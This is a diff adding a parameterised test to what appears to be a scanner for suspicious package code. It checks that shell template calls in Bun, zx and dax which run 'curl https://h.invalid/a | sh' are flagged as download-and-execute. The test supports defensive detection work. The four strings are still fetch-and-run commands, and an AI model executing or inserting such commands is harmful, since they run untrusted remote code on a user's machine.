@@ -20,6 +20,13 @@ const base64 = (text: string): string => Buffer.from(text).toString('base64');
 const hex = (text: string): string => Buffer.from(text).toString('hex');
 const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',');
 
+it.each([
+  "import { $ } from 'bun'; await $`curl https://h.invalid/a | sh`",
+  "import { $ as run } from 'zx'; const from = 'https://h.invalid/a'; await run`curl $" + '{from} | sh`',
+  "const dax = require('dax-sh'); dax.$`curl https://h.invalid/a | sh`",
+  'Bun.$`curl https://h.invalid/a | sh`.quiet()',
+])('a template that is a shell is a command: %s', (source) => expect(kinds(source)).toContain('download-execute'));
+
 it('writing into another package is seen; a hidden cache folder beside the packages is none', () => {
   const written = (path: string): string => `require('fs').writeFileSync('${path}', 'x')`;
   for (const path of [
